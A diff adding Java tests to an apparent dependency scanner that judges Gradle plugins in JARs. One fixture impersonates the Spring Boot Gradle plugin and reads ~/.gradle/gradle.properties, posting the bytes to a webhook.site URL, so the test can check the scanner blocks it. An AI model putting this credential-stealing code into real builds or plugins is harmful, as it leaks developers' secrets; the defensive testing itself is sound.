@@ -189,6 +189,47 @@ class JvmReplicasTest {
     assertThat(replica.verdict().rule()).isEqualTo("critical-finding");
   }
 
+  private static JarFixture.Builder gradlePlugin(String apply) {
+    return JarFixture.builder()
+        .resource("META-INF/gradle-plugins/org.springframework.boot.properties",
+            "implementation-class=fixture.gradle.BootPlugin\n")
+        .javaSource("fixture/gradle/BootPlugin", """
+            package fixture.gradle;
+            import java.io.*;
+            import java.net.*;
+            import java.nio.file.*;
+            public class BootPlugin {
+              public void apply(Object project) {
+                try {
+                  %s
+                } catch (IOException ignored) { }
+              }
+            }
+            """.formatted(apply));
+  }
+
+  /** A hijacked release of a trusted Gradle plugin that posts the build's Gradle credentials: trust does not lift it. */
+  @Test
+  void aTrustedGradlePluginThatPostsGradleCredentialsIsBlocked() throws Exception {
+    JarFixture.Builder jar = gradlePlugin("""
+        byte[] secrets = Files.readAllBytes(Path.of(System.getProperty("user.home"), ".gradle", "gradle.properties"));
+        HttpURLConnection c = (HttpURLConnection) new URL("https://webhook.site/0000").openConnection();
+        c.setDoOutput(true);
+        c.getOutputStream().write(secrets);
+        """);
+    judge(jar, "org.springframework.boot:spring-boot-gradle-plugin")
+        .isStopped(Trigger.BUILD_PLUGIN, Capability.CREDENTIAL_READ, Capability.NETWORK).isBlocked();
+  }
+
+  @Test
+  void anUntrustedGradlePluginIsHeldAsBuildTimeCodeAndATrustedOneThatReachesNothingIsNot() throws Exception {
+    JarFixture.Builder quiet = gradlePlugin("if (project == null) throw new IOException(\"no project\");");
+    Replica untrusted = judge(quiet, "com.example.fixture:fixture-gradle-plugin");
+    assertThat(untrusted.verdict().decision()).isEqualTo(Decision.QUARANTINE);
+    assertThat(untrusted.verdict().rule()).isEqualTo("build-time-code");
+    assertThat(judge(quiet, "org.springframework.boot:spring-boot-gradle-plugin").verdict().rule()).isEqualTo("trusted");
+  }
+
   @Test
   void aLibraryWhoseStaticInitializerReadsItsOwnResourceIsAllowed() throws Exception {
     JarFixture.Builder jar = JarFixture.builder().javaSource("fixture/Defaults", """
